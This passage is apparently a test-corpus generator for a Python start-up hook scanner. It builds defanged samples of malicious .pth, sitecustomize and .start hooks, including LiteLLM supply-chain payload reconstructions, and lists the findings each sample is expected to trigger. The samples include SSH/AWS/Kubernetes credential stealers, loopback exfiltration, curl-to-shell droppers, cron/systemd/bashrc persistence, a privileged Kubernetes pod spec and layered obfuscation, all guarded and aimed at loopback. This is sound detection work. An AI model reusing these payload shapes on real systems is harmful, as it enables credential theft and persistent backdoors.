"""Regenerates corpus/cases/*/case.toml: defanged start-up hook samples with expected findings.

Run with `python3 -I -S corpus/generate.py` from the repository root. It only writes text: the
one compiled sample (a .pyc) is made with py_compile, which compiles and never executes.
"""
import base64
import os
import py_compile
import tempfile
import textwrap

HERE = os.path.dirname(os.path.abspath(__file__))
NL = "\n"
harmless = 'print("pthscan corpus: defanged sample; this is not a real payload")\n' * 6
b64 = base64.b64encode(harmless.encode()).decode()
litellm_line = (
    'import os, subprocess, sys; os.environ.get("PTHSCAN_CORPUS_NEVER_SET") == "armed" and '
    'subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode(\'%s\'))"], '
    "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)" % b64
)
stealer = textwrap.dedent(
    '''\
    # pthscan corpus: defanged stealer shape. It acts only if PTHSCAN_CORPUS_NEVER_SET=armed,
    # and then only talks to the loopback discard port.
    import json, os, urllib.request

    _TARGETS = ["~/.aws/credentials", "~/.ssh/id_rsa", "~/.kube/config"]


    def run():
        if os.environ.get("PTHSCAN_CORPUS_NEVER_SET") != "armed":
            return
        loot = {}
        for p in _TARGETS:
            try:
                loot[p] = open(os.path.expanduser(p), "rb").read().decode("latin-1")
            except OSError:
                pass
        urllib.request.urlopen("http://127.0.0.1:9/", data=json.dumps(loot).encode(), timeout=1)
'''
)
tmp = tempfile.mkdtemp()
src = os.path.join(tmp, "sitecustomize.py")
with open(src, "w") as f:
    f.write(stealer)
pyc = os.path.join(tmp, "sitecustomize.pyc")
# a hash-based pyc with a fixed source name: the same bytes on every run
py_compile.compile(
    src,
    cfile=pyc,
    dfile="sitecustomize.py",
    doraise=True,
    invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH,
)
with open(pyc, "rb") as f:
    pyc_b64 = base64.b64encode(f.read()).decode()
fake_elf = base64.b64encode(
    b"\x7fELF\x02\x01\x01" + b"\x00" * 57 + b"pthscan corpus: not a real shared object"
).decode()


def q(s):
    """A TOML literal string."""
    assert "'''" not in s
    return "'''\n" + s + "'''" if "\n" in s else "'''" + s + "'''"


def f(path, text=None, b64data=None):
    if text is not None and any(ord(c) < 32 and c not in "\n\t" for c in text):
        # TOML strings cannot hold other control characters, and parsers may normalise CRLF
        b64data = base64.b64encode(text.encode()).decode()
    if b64data is not None:
        return '[[file]]\npath = "%s"\nbase64 = "%s"\n' % (path, b64data)
    return '[[file]]\npath = "%s"\ntext = %s\n' % (path, q(text))


def e(rule, severity, path, line=None, runs_on=None):
    out = '[[expect]]\nrule = "%s"\nseverity = "%s"\npath = "%s"\n' % (rule, severity, path)
    if line is not None:
        out += "line = %d\n" % line
    if runs_on is not None:
        out += "runs_on = [%s]\n" % ", ".join('"%s"' % r for r in runs_on)
    return out


SP = "venv/lib/python3.12/site-packages"
CFG = f("venv/pyvenv.cfg", "home = /usr/bin\nversion = 3.12.4\n")
cases = {}
cases["litellm-init"] = (
    "The LiteLLM 1.82.8 litellm_init.pth shape (payload defanged), under its own name and under a neutral one.",
    [
        f(SP + "/litellm_init.pth", litellm_line + NL),
        f(SP + "/zz_telemetry.pth", litellm_line),
        e("PTH001", "critical", SP + "/litellm_init.pth", 1),
        e("PTH001", "critical", SP + "/zz_telemetry.pth", 1),
        # the payload rules recognise the shape under any name
        e("teampcp-pth-launcher", "critical", SP + "/litellm_init.pth", 1),
        e("teampcp-pth-launcher", "critical", SP + "/zz_telemetry.pth", 1),
        e("obf-exec-decoded", "medium", SP + "/litellm_init.pth", 1),
        e("obf-exec-decoded", "medium", SP + "/zz_telemetry.pth", 1),
        # the `python -c` code is analysed: base64 decoded into exec
        e("flow-decoded-exec", "high", SP + "/litellm_init.pth", 1),
        e("flow-decoded-exec", "high", SP + "/zz_telemetry.pth", 1),
    ],
)
cases["dot-named-pth"] = (
    "A dot-named .pth: dormant on patched CPython, live on unpatched <=3.12.",
    [
        f(SP + "/.hidden.pth", "import _shim\n"),
        f(SP + "/.paths.pth", "extra\n"),
        e("PTH002", "high", SP + "/.hidden.pth", 1, ["<=3.12-unpatched"]),
        e("PTH002", "low", SP + "/.paths.pth", 1),
    ],
)
cases["formfeed-split"] = (
    "A path line that hides an import behind a form feed: a harmless path on <=3.12, an executed import on 3.13+.",
    [
        f(SP + "/mydir.pth", "mydir\x0cimport _shim\n"),
        e("PTH001", "high", SP + "/mydir.pth", 1, ["3.13-3.14", "3.15-3.17"]),
    ],
)
cases["gb18030-line-separator"] = (
    "A .pth that is not UTF-8: 3.13+ fall back to the locale's encoding, and under GB18030 the "
    "four bytes 81 36 A6 35 are U+2028, where splitlines() ends the path line and starts an import.",
    [
        f(SP + "/locale.pth", b64data=base64.b64encode(
            b"vendor\x81\x36\xa6\x35import _shim\n").decode()),
        e("PTH001", "high", SP + "/locale.pth", 1, ["3.13-3.14", "3.15-3.17"]),
    ],
)
cases["indented-315"] = (
    "An indented import line: a path before 3.15, executed from 3.15 (PEP 829 strips lines).",
    [
        f(SP + "/indented.pth", "# looks like a comment block\n    import _shim\n"),
        e("PTH001", "high", SP + "/indented.pth", 2, ["3.15-3.17"]),
    ],
)
cases["start-entry-payload"] = (
    "A PEP 829 .start entry point into a module carrying the stealer shape.",
    [
        f(SP + "/telemetry.start", "# start-up telemetry\n_telemetry.boot:run\n"),
        f(SP + "/_telemetry/__init__.py", ""),
        f(SP + "/_telemetry/boot.py", stealer),
        e("START001", "high", SP + "/telemetry.start", 2, ["3.15-3.17"]),
        e("IMP001", "high", SP + "/_telemetry/boot.py", 3),
        # text rules are capped at medium for Python; the behaviour (files read → sent) is high
        e("cred-sweep-stores", "medium", SP + "/_telemetry/boot.py", 5),
        e("cred-ssh-keys", "medium", SP + "/_telemetry/boot.py", 14),
        # the key files read in a loop over their paths and sent
        e("flow-credential-send", "critical", SP + "/_telemetry/boot.py", 17),
        e("credential-read-send", "high", SP + "/_telemetry/boot.py", 17),
    ],
)
cases["hidden-module"] = (
    "A harmless-looking import line whose module is the payload.",
    [
        f(SP + "/sysmon_telemetry.pth", "# telemetry bootstrap\nimport _sysmon_init\n"),
        f(SP + "/_sysmon_init.py", stealer),
        e("PTH001", "high", SP + "/sysmon_telemetry.pth", 2),
        e("IMP001", "high", SP + "/_sysmon_init.py", 3),
        e("cred-sweep-stores", "medium", SP + "/_sysmon_init.py", 5),
        e("cred-ssh-keys", "medium", SP + "/_sysmon_init.py", 14),
        # the key files read in a loop over their paths and sent
        e("flow-credential-send", "critical", SP + "/_sysmon_init.py", 17),
        e("credential-read-send", "high", SP + "/_sysmon_init.py", 17),
    ],
)
cases["customize-forms"] = (
    "sitecustomize as sourceless bytecode and as an extension module, usercustomize as a package.",
    [
        f(SP + "/sitecustomize.pyc", b64data=pyc_b64),
        f("venv/lib/python3.12/os.py", ""),
        f("venv/lib/python3.12/lib-dynload/sitecustomize.cpython-312-x86_64-linux-gnu.so", b64data=fake_elf),
        f(SP + "/usercustomize/__init__.py", "import base64\nexec(base64.b64decode('cHJpbnQoImRlZmFuZ2VkIik='))\n"),
        e("CUS002", "critical", SP + "/sitecustomize.pyc"),
        e("CUS003", "high", "venv/lib/python3.12/lib-dynload/sitecustomize.cpython-312-x86_64-linux-gnu.so"),
        e("CUS001", "high", SP + "/usercustomize/__init__.py", 2),
        e("obf-exec-decoded", "medium", SP + "/usercustomize/__init__.py", 2),
        e("flow-decoded-exec", "high", SP + "/usercustomize/__init__.py", 2),
        # the stealer's strings survive compilation (a text rule, capped at medium for Python)
        e("cred-sweep-stores", "medium", SP + "/sitecustomize.pyc", 2),
    ],
)
cases["path-into-shm"] = (
    "Path lines into /dev/shm and into another user's hidden directory; a relative line stays quiet.",
    [
        f(SP + "/local-paths.pth", "/dev/shm/.x\n/home/mallory/.cache/lib\nsrc\n"),
        e("PTH010", "high", SP + "/local-paths.pth", 1),
        e("PTH010", "medium", SP + "/local-paths.pth", 2),
    ],
)
cases["planted-config"] = (
    "A pthscan.toml at the top of the scanned tree that would silence everything (path = \"**\"): reported as CFG001, never obeyed.",
    [
        f("pthscan.toml", '[[suppress]]\npath = "**"\nreason = "routine maintenance"\n'),
        f(SP + "/local-paths.pth", "/dev/shm/.x\n"),
        e("CFG001", "high", "pthscan.toml"),
        e("PTH010", "high", SP + "/local-paths.pth", 1),
    ],
)
setuptools_line = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
cases["known-name-changed"] = (
    "setuptools' distutils-precedence.pth with one line appended.",
    [
        f(SP + "/distutils-precedence.pth", setuptools_line + 'import os; os.environ.get("SETUPTOOLS_EXT") or __import__("_distutils_hack_ext")\n'),
        e("PTH001", "info", SP + "/distutils-precedence.pth", 1),
        e("PTH003", "high", SP + "/distutils-precedence.pth", 2),
    ],
)
nspkg = "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
nspkg84 = "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = __import__('importlib.util');__import__('importlib.machinery');m = sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
benign = [
    ("distutils-precedence.pth", setuptools_line),
    ("_virtualenv.pth", "import _virtualenv"),
    ("a1_coverage.pth", 'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START") or os.getenv("COVERAGE_PROCESS_CONFIG"):\\n try:\\n  import coverage\\n except:\\n  pass\\n else:\\n  coverage.process_startup(slug="pth")\')\n'),
    ("hunter.pth", "import hunter; hunter._embed_via_environment()\n"),
    ("protobuf-3.20.3-py3.8-nspkg.pth", nspkg),
    # setuptools 84 dropped the has_mfs guard (namespaces.py _nspkg_tmpl)
    ("google_cloud_aiplatform-1.95.0-py3.12-nspkg.pth", nspkg84),
    ("__editable__.demo_local-0.1.0.pth", "import __editable___demo_local_0_1_0_finder; __editable___demo_local_0_1_0_finder.install()"),
    ("my_project.pth", "import _editable_impl_my_project\n/home/dev/my-project/src\n"),
    ("pip_system_certs.pth", "import os, sys; __import__('pip_system_certs.bootstrap') and sys.modules['pip_system_certs.bootstrap'].bootstrap()\n"),
    ("easy-install.pth", "import sys; sys.__plen = len(sys.path)\n./demo-0.1-py3.12.egg\nimport sys; new = sys.path[sys.__plen:]; del sys.path[sys.__plen:]; p = getattr(sys, '__egginsert', 0); sys.path[p:p] = new; sys.__egginsert = p + len(new)\n"),
    ("uv_build_editable.pth", "/home/dev/uv-project/src"),
    ("pywin32.pth", "# .pth file for the PyWin32 extensions\r\nwin32\r\nwin32\\lib\r\nPythonwin\r\n# And some hackery to deal with environments where the post_install script\r\n# isn't run.\r\nimport pywin32_bootstrap\r\n"),
]
parts = [f(SP + "/_virtualenv.py", "import os\nimport sys\n\nVIRTUALENV_PATCH_FILE = os.path.join(__file__)\n")]
for name, text in benign:
    parts.append(f(SP + "/" + name, text))
    for i, line in enumerate(text.replace("\r\n", "\n").split("\n"), 1):
        if line.startswith("import"):
            parts.append(e("PTH001", "info", SP + "/" + name, i))
cases["benign-hooks"] = (
    "Legitimate hooks in their real shapes: every executable line is info, nothing else is reported.",
    parts,
)


# ---------------------------------------------------------------------------------------------
# Payload shapes (issue 3): encoded layers, persistence writers, Kubernetes abuse, droppers, the
# LiteLLM 1.82.7 and 1.82.8 reconstructions, and honest code that uses the same APIs. Every
# payload acts only if PTHSCAN_CORPUS_NEVER_SET=armed, and then only on loopback or .invalid.
import bz2
import lzma
import zlib

GUARD = 'import os\nif os.environ.get("PTHSCAN_CORPUS_NEVER_SET") == "armed":\n'


def guarded(body):
    return GUARD + textwrap.indent(textwrap.dedent(body), "    ")


def b64(text):
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def dist(name, version):
    return f(SP + "/%s-%s.dist-info/METADATA" % (name, version), "Metadata-Version: 2.1\nName: %s\nVersion: %s\n\nLong description.\n" % (name, version))


harvester = guarded(
    """\
    import json, subprocess, tarfile, urllib.request
    HOME = os.path.expanduser("~")
    TARGETS = [".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".kube/config",
               ".docker/config.json", ".git-credentials", ".bash_history"]
    TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
    with tarfile.open("/tmp/pthscan-corpus.tgz", "w:gz") as t:
        for p in TARGETS:
            t.add(os.path.join(HOME, p))
    urllib.request.urlopen("http://127.0.0.1:9/", data=open("/tmp/pthscan-corpus.tgz", "rb").read())
    """
)
sysmon = guarded(
    """\
    import subprocess, time, urllib.request
    while True:
        time.sleep(3000)
        body = urllib.request.urlopen("http://127.0.0.1:9/raw").read()
        open("/tmp/.pg_state", "w").write(str(time.time()))
        open("/tmp/pglog", "wb").write(body)
        os.chmod("/tmp/pglog", 0o755)
        subprocess.Popen(["/tmp/pglog"])
    """
)
stage2 = guarded(
    """\
    import base64, subprocess, sys
    PUB = "MIICIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIICCgKCAgEA-defanged"
    B64_SCRIPT = "%s"
    PERSIST_B64 = "%s"
    UNIT = "[Unit]\\nDescription=System Telemetry Service\\nStartLimitIntervalSec=0\\n[Service]\\nExecStart=/usr/bin/python3 %%h/.config/sysmon/sysmon.py\\n"
    subprocess.run([sys.executable, "-c", base64.b64decode(B64_SCRIPT).decode()])
    subprocess.run("openssl rand -out /tmp/session.key 32", shell=True)
    subprocess.run("openssl enc -aes-256-cbc -pbkdf2 -in /tmp/c -out /tmp/payload.enc -pass file:/tmp/session.key", shell=True)
    subprocess.run("openssl pkeyutl -encrypt -pubin -inkey /tmp/pub.pem -in /tmp/session.key -out /tmp/session.key.enc", shell=True)
    subprocess.run(["curl", "-s", "-H", "X-Filename: tpcp.tar.gz", "--data-binary", "@/tmp/tpcp.tar.gz", "http://127.0.0.1:9/"])
    """
    % (b64(harvester), b64(sysmon))
)
chain_line = (
    'import os, subprocess, sys; os.environ.get("PTHSCAN_CORPUS_NEVER_SET") == "armed" and '
    'subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode(\'%s\'))"], '
    "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)" % b64(stage2)
)
LLM = SP + "/litellm"
cases["litellm-1828-chain"] = (
    "The LiteLLM 1.82.8 chain reconstructed (defanged): the .pth launcher, stage 2 (orchestrator with the RSA key, "
    "B64_SCRIPT and PERSIST_B64) and stage 3 (harvester) and the sysmon.py backdoor, each caught in its own layer.",
    [
        dist("litellm", "1.82.8"),
        f(SP + "/litellm_init.pth", chain_line + NL),
        e("MAL001", "critical", SP + "/litellm-1.82.8.dist-info/METADATA"),
        e("PTH001", "critical", SP + "/litellm_init.pth", 1),
        e("teampcp-pth-launcher", "critical", SP + "/litellm_init.pth", 1),
        e("obf-exec-decoded", "medium", SP + "/litellm_init.pth", 1),
        e("flow-decoded-exec", "high", SP + "/litellm_init.pth", 1),
        # stage 2 runs stage 3, decoded, as a child interpreter's command line
        e("flow-decoded-process", "high", SP + "/litellm_init.pth", 1),
        # layer 1 (base64): stage 2. Capability text rules are capped at medium for Python.
        e("teampcp-markers", "critical", SP + "/litellm_init.pth", 1),
        e("teampcp-encrypted-exfil", "critical", SP + "/litellm_init.pth", 1),
        e("teampcp-sysmon-persistence", "critical", SP + "/litellm_init.pth", 1),
        e("exfil-curl-upload", "medium", SP + "/litellm_init.pth", 1),
        e("exfil-filename-header", "medium", SP + "/litellm_init.pth", 1),
        e("obf-long-literal-exec", "medium", SP + "/litellm_init.pth", 1),
        e("obf-nested-encoding", "medium", SP + "/litellm_init.pth", 1),
        # the curl upload of /tmp/tpcp.tar.gz (one finding per rule and line, whichever layer)
        e("process-upload", "high", SP + "/litellm_init.pth", 1),
        # the harvester reads credential stores and sends in one file
        e("credential-read-send", "high", SP + "/litellm_init.pth", 1),
        # layer 2 (base64 → base64): the harvester (B64_SCRIPT) and the sysmon.py backdoor (PERSIST_B64)
        e("cred-sweep-stores", "medium", SP + "/litellm_init.pth", 1),
        e("cred-ssh-keys", "medium", SP + "/litellm_init.pth", 1),
        e("cred-k8s-token", "medium", SP + "/litellm_init.pth", 1),
        e("cred-secret-files", "medium", SP + "/litellm_init.pth", 1),
        e("exfil-archive-upload", "medium", SP + "/litellm_init.pth", 1),
        e("drop-download-run", "medium", SP + "/litellm_init.pth", 1),
        e("drop-fetch-write-run", "medium", SP + "/litellm_init.pth", 1),
        # the harvester's archive sent and the backdoor's chmod
        e("flow-file-send", "high", SP + "/litellm_init.pth", 1),
        e("flow-download-run", "high", SP + "/litellm_init.pth", 1),
        e("flow-dropped-run", "high", SP + "/litellm_init.pth", 1),
    ],
)

proxy_clean_head = (
    '"""LiteLLM proxy server (excerpt, reconstructed for the pthscan corpus)."""\n'
    "import asyncio\nimport os\nimport subprocess\nimport sys\nimport base64\n\n"
    "from fastapi import FastAPI\n\napp = FastAPI()\n\n\n"
    "@app.get('/health')\nasync def health():\n    return {'status': 'ok'}\n\n\n"
)
injected = (
    "def _bootstrap_metrics():\n"
    "    if os.environ.get('PTHSCAN_CORPUS_NEVER_SET') != 'armed':\n"
    "        return\n"
    "    _m = '%s'\n"
    "    _c = base64.b64decode(_m).decode()\n"
    "    subprocess.Popen([sys.executable, '-c', _c], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n\n\n"
    "_bootstrap_metrics()\n" % b64(harvester)
)
proxy_tail = "\n\n@app.get('/models')\nasync def models():\n    return {'data': []}\n"
proxy_src = proxy_clean_head + injected + proxy_tail
inj_line = proxy_src[: proxy_src.index("    _m = ")].count("\n") + 1
dec_line = inj_line + 1
cases["litellm-1827-proxy-server"] = (
    "The LiteLLM 1.82.7 shape reconstructed (defanged): no hook at all; about a dozen lines injected into "
    "litellm/proxy/proxy_server.py decode a base64 harvester and run it in a child interpreter when the module "
    "is imported. Only --deep reads it; the installed version is an IOC either way.",
    [
        dist("litellm", "1.82.7"),
        f(LLM + "/__init__.py", '"""LiteLLM."""\n__version__ = "1.82.7"\n'),
        f(LLM + "/proxy/__init__.py", ""),
        f(LLM + "/proxy/proxy_server.py", proxy_src),
        e("MAL001", "critical", SP + "/litellm-1.82.7.dist-info/METADATA"),
        e("obf-decode-then-exec", "medium", LLM + "/proxy/proxy_server.py", dec_line),
        # the decoded harvester, located at the encoded literal (text rules capped at medium)
        e("cred-sweep-stores", "medium", LLM + "/proxy/proxy_server.py", inj_line),
        e("cred-ssh-keys", "medium", LLM + "/proxy/proxy_server.py", inj_line),
        e("cred-k8s-token", "medium", LLM + "/proxy/proxy_server.py", inj_line),
        e("cred-secret-files", "medium", LLM + "/proxy/proxy_server.py", inj_line),
        e("exfil-archive-upload", "medium", LLM + "/proxy/proxy_server.py", inj_line),
        # its archive sent: in the decoded literal, and in the `python -c` code it is run as
        e("flow-file-send", "high", LLM + "/proxy/proxy_server.py", inj_line),
        e("flow-file-send", "high", LLM + "/proxy/proxy_server.py", dec_line + 1),
        # the decoded harvester given to a child interpreter (`python -c`) is executed
        e("flow-decoded-exec", "high", LLM + "/proxy/proxy_server.py", dec_line + 1),
        e("flow-decoded-process", "high", LLM + "/proxy/proxy_server.py", dec_line + 1),
        # it reads credential stores and sends in one file: evidence (a module's function)
        e("credential-read-send", "medium", LLM + "/proxy/proxy_server.py", inj_line),
        e("credential-read-send", "medium", LLM + "/proxy/proxy_server.py", dec_line + 1),
    ],
    ["--deep"],
)


def hook_case(name, desc, module_src, expects, imp=("high", None), args=None, module="_corpus_boot"):
    """A .pth that imports `module`, whose source is the payload. `imp`: the severity and line of
    the module's signal-based IMP001 finding (which the .pth line inherits); the payload rules'
    findings are `expects`."""
    sev, line = imp
    parts = [
        f(SP + "/%s.pth" % name, "import %s\n" % module),
        f(SP + "/%s.py" % module, module_src),
        e("PTH001", sev, SP + "/%s.pth" % name, 1),
    ]
    if line != 0:
        parts.append(e("IMP001", sev, SP + "/%s.py" % module, line if line else expects[0][2]))
    parts += [e(rule, sev, SP + "/%s.py" % module, line) for rule, sev, line in expects]
    cases[name] = (desc, parts, args or [])


def line_of(src, needle):
    return src[: src.index(needle)].count("\n") + 1


ssh_steal = guarded(
    """\
    import requests
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    requests.post("http://127.0.0.1:9/", data={"k": key})
    """
)
src = "import base64, zlib\nexec(zlib.decompress(base64.b64decode('%s')))\n" % b64(zlib.compress(ssh_steal.encode()))
# what the thief's decoded code does, every finding at the line of the encoded literal: text rules are
# capped at medium for Python; the behaviour rules (key read → sent) are not
THIEF = [("cred-ssh-keys", "medium"), ("credential-read-send", "high"), ("flow-credential-send", "critical")]


def thief(line):
    return [(rule, sev, line) for rule, sev in THIEF]


hook_case("enc-base64-zlib", "A hook module that runs base64 → zlib → an SSH key thief.", src,
          [("obf-exec-decoded", "medium", 2), ("flow-decoded-exec", "high", 2)] + thief(2))

hexsrc = "exec(bytes.fromhex('%s'))\n" % ssh_steal.encode().hex()
# the thief's send, once from the decoded layer and once from the exec'd code analysed
hook_case("enc-hex", "A hook module that runs hex-encoded code.", hexsrc,
          [("obf-exec-decoded", "medium", 1), ("flow-decoded-exec", "high", 1)] + thief(1)
          + [("credential-read-send", "high", 1), ("flow-credential-send", "critical", 1)])

rev = b64(ssh_steal)[::-1]
revsrc = "import base64\n_p = '%s'\nexec(base64.b64decode(_p[::-1]))\n" % rev
hook_case("enc-reversed", "Base64 stored reversed and flipped with [::-1] before exec.", revsrc,
          [("obf-exec-decoded", "medium", 3), ("flow-decoded-exec", "high", 3)] + thief(2)
          + [("credential-read-send", "high", 3), ("flow-credential-send", "critical", 3)])

rot = codecs_rot = "".join(
    chr((ord(c) - 97 + 13) % 26 + 97) if "a" <= c <= "z" else chr((ord(c) - 65 + 13) % 26 + 65) if "A" <= c <= "Z" else c
    for c in 'import os; os.system("curl -fsSL http://127.0.0.1:9/i.sh | sh")'
)
rotsrc = "import codecs\n_c = '%s'\nos.environ.get('PTHSCAN_CORPUS_NEVER_SET') == 'armed' and exec(codecs.decode(_c, 'rot13'))\n" % rot
hook_case("enc-rot13", "A rot13-encoded pipe-to-shell command.", "import os\n" + rotsrc,
          [("obf-exec-decoded", "medium", 4), ("flow-decoded-exec", "high", 4), ("drop-pipe-to-shell", "medium", 3),
           # curl | sh, in the decoded literal and in the exec'd code
           ("process-fetch-run", "high", 3), ("process-fetch-run", "high", 4)])

enc = b64(ssh_steal)
pieces = [enc[i : i + 60] for i in range(0, len(enc), 60)]
splitsrc = "import base64\n_p = (\n" + "".join("    '%s'\n" % p for p in pieces) + ")\nexec(base64.b64decode(_p))\n"
hook_case("enc-split-strings", "Base64 split over many adjacent string literals.", splitsrc,
          [("obf-exec-decoded", "medium", len(pieces) + 4), ("flow-decoded-exec", "high", len(pieces) + 4)] + thief(3)
          + [("credential-read-send", "high", len(pieces) + 4), ("flow-credential-send", "critical", len(pieces) + 4)])

cmd = 'os.system("curl -s -F f=@/etc/hostname http://127.0.0.1:9/")'
chrsrc = "import os\n_c = ''.join(map(chr, [%s]))\nos.environ.get('PTHSCAN_CORPUS_NEVER_SET') == 'armed' and exec(_c)\n" % ", ".join(str(ord(c)) for c in cmd)
# the character codes fold to a constant: the code it executes is analysed, a curl upload
hook_case("enc-chr-join", "A command built from character codes, then executed.", chrsrc,
          [("obf-chr-join", "medium", 2), ("exfil-curl-upload", "medium", 2), ("process-upload", "high", 2),
           ("process-upload", "high", 3)],
          imp=("medium", 0))

lz = "import base64, lzma\nexec(lzma.decompress(base64.b64decode('%s')))\n" % b64(lzma.compress(ssh_steal.encode()))
hook_case("enc-lzma", "base64 → xz payload.", lz,
          [("obf-exec-decoded", "medium", 2), ("flow-decoded-exec", "high", 2)] + thief(2))

bz = "import base64, bz2\nexec(bz2.decompress(base64.b64decode('%s')))\n" % b64(bz2.compress(ssh_steal.encode()))
hook_case("enc-bz2", "base64 → bz2 payload.", bz,
          [("obf-exec-decoded", "medium", 2), ("flow-decoded-exec", "high", 2)] + thief(2))

urlsafe = "import base64\nexec(base64.urlsafe_b64decode('%s'))\n" % base64.urlsafe_b64encode(("#" * 3 + "?>" + ssh_steal).encode()).decode()
hook_case("enc-urlsafe", "URL-safe base64 payload.", urlsafe,
          [("obf-exec-decoded", "medium", 2), ("flow-decoded-exec", "high", 2)] + thief(2)
          + [("credential-read-send", "high", 2), ("flow-credential-send", "critical", 2)])

triple = ssh_steal
for _ in range(3):
    triple = "import base64\nexec(base64.b64decode('%s'))\n" % b64(triple)
# the inner layers are exec'd code analysed in turn: two decoded execs and two sends, one per depth
hook_case("enc-triple-base64", "Three nested base64 layers.", triple,
          [("obf-exec-decoded", "medium", 2), ("obf-nested-encoding", "medium", 2),
           ("flow-decoded-exec", "high", 2), ("flow-decoded-exec", "high", 2)] + thief(2)
          + [("credential-read-send", "high", 2), ("flow-credential-send", "critical", 2)])

oneliner = "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'%s'))\n" % b64(zlib.compress(ssh_steal.encode()))[::-1]
# the lambda decodes its argument: flow-decoder-exec; the decoded thief is caught by its send
hook_case("enc-obfuscator-oneliner", "The packer one-liner: reversed base64 of zlib behind a lambda.", "import os\n" + oneliner,
          [("obf-import-decode-exec", "medium", 2), ("obf-decode-then-exec", "medium", 2),
           ("flow-decoder-exec", "high", 2)] + thief(2))

start_payload = "import base64\n\ndef run():\n    exec(base64.b64decode('%s'))\n" % b64(ssh_steal)
cases["start-encoded-entry"] = (
    "A PEP 829 .start entry point whose target decodes and runs an SSH key thief.",
    [
        f(SP + "/metrics.start", "_metrics.boot:run\n"),
        f(SP + "/_metrics/__init__.py", ""),
        f(SP + "/_metrics/boot.py", start_payload),
        e("START001", "high", SP + "/metrics.start", 1, ["3.15-3.17"]),
        e("IMP001", "high", SP + "/_metrics/boot.py", 4),
        e("obf-exec-decoded", "medium", SP + "/_metrics/boot.py", 4),
        e("flow-decoded-exec", "high", SP + "/_metrics/boot.py", 4),
    ]
    + [e(rule, sev, SP + "/_metrics/boot.py", line) for rule, sev, line in thief(4)]
    + [
        e("credential-read-send", "high", SP + "/_metrics/boot.py", 4),
        e("flow-credential-send", "critical", SP + "/_metrics/boot.py", 4),
    ],
    [],
)

systemd_writer = guarded(
    """\
    import subprocess
    d = os.path.expanduser("~/.config/systemd/user")
    open(os.path.join(d, "corpus-telemetry.service"), "w").write(
        "[Service]\\nExecStart=/usr/bin/python3 %h/.config/ctel/ctel.py\\n")
    open(os.path.expanduser("~/.config/ctel/ctel.py"), "w").write("pass\\n")
    subprocess.run(["systemctl", "--user", "enable", "--now", "corpus-telemetry.service"])
    """
)
hook_case("persist-systemd-writer", "A hook module that installs a systemd user unit running ~/.config/x/x.py.", systemd_writer,
          [("persist-systemd-unit", "medium", line_of(systemd_writer, ".config/systemd/user")),
           ("persist-config-script", "medium", line_of(systemd_writer, "corpus-telemetry.service")),
           # the behaviours: the unit written, then enabled
           ("persist-write", "high", line_of(systemd_writer, "corpus-telemetry.service")),
           ("process-persist", "high", line_of(systemd_writer, "systemctl"))],
          imp=("medium", 4))

cron_writer = guarded(
    """\
    os.system('(crontab -l; echo "@reboot nohup python3 ~/.cache/.c/c.py >/dev/null 2>&1") | crontab -')
    """
)
hook_case("persist-cron-writer", "A hook module that adds an @reboot cron entry.", cron_writer,
          [("persist-cron", "medium", 3), ("process-persist", "high", 3)], imp=("medium", 3))

rc_writer = guarded(
    """\
    with open(os.path.expanduser("~/.bashrc"), "a") as f:
        f.write("\\ncurl -s http://127.0.0.1:9/x | python3 &\\n")
    """
)
hook_case("persist-shell-rc-writer", "A hook module that appends a download to ~/.bashrc.", rc_writer,
          [("persist-shell-rc", "medium", 3), ("persist-write", "high", line_of(rc_writer, "f.write"))], imp=("medium", 3))

env_exfil = guarded(
    """\
    import json, urllib.request
    loot = {k: v for k, v in os.environ.items() if any(s in k for s in ("KEY", "TOKEN", "SECRET"))}
    urllib.request.urlopen("http://127.0.0.1:9/", data=json.dumps(loot).encode())
    """
)
cases["sitecustomize-env-exfil"] = (
    "A sitecustomize that posts every KEY/TOKEN/SECRET environment variable.",
    [
        f(SP + "/sitecustomize.py", env_exfil),
        e("CUS001", "high", SP + "/sitecustomize.py", 3),
        e("cred-env-secrets", "medium", SP + "/sitecustomize.py", 4),
        e("flow-environ-send", "high", SP + "/sitecustomize.py", line_of(env_exfil, "urlopen")),
    ],
    [],
)

PKG = SP + "/corpus_pkg"
pod = guarded(
    """\
    from kubernetes import client, config
    config.load_incluster_config()
    v1 = client.CoreV1Api()
    spec = {"hostPID": True, "hostNetwork": True, "tolerations": [{"operator": "Exists"}],
            "containers": [{"name": "setup", "image": "alpine:latest", "securityContext": {"privileged": True},
                            "command": ["chroot", "/host", "true"]}],
            "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}
    v1.create_namespaced_pod(namespace="kube-system", body={"metadata": {"name": "node-setup-x"}, "spec": spec})
    """
)
secrets = guarded(
    """\
    import urllib.request
    tok = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
    req = urllib.request.Request("https://kubernetes.default.svc/api/v1/secrets", headers={"Authorization": "Bearer " + tok})
    urllib.request.urlopen(req)
    """
)
webhook = guarded(
    """\
